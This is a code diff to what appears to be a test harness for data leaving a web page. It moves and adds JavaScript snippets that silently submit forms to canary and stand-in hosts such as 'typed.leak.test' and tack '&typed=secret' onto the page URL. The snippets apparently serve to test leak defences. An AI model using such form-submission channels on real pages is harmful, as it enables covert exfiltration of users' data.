@@ -117,11 +117,6 @@ def quiet(canary: Canary) -> bytes:
           peer.createOffer().then((offer) => peer.setLocalDescription(offer));
         }},
         () => {{
-          const form = Object.assign(document.createElement("form"), {{ action: "{c}/form", method: "post" }});
-          document.body.append(form);
-          form.submit();
-        }},
-        () => {{
           const form = Object.assign(document.createElement("form"), {{ action: "{c}/form-blank", target: "_blank" }});
           document.body.append(form);
           form.submit();
@@ -146,6 +141,14 @@ LEAVING: Final[dict[str, str]] = {
         " {{ httpEquiv: 'refresh', content: '0;url={c}/refresh' }}))"
     ),
     "own": "location = location.href + '&typed=secret'",
+    "form": (
+        "document.body.append(Object.assign(document.createElement('form'), {{ action: '{c}/form', method: 'post' }}));"
+        " document.forms[0].submit()"
+    ),
+    "named-form": (
+        "document.body.append(Object.assign(document.createElement('form'), {{ action: 'https://typed.leak.test/' }}));"
+        " document.forms[0].submit()"
+    ),
     "other-page": "location = '/reviews'",
     "blank": "location = 'about:blank'",
 }
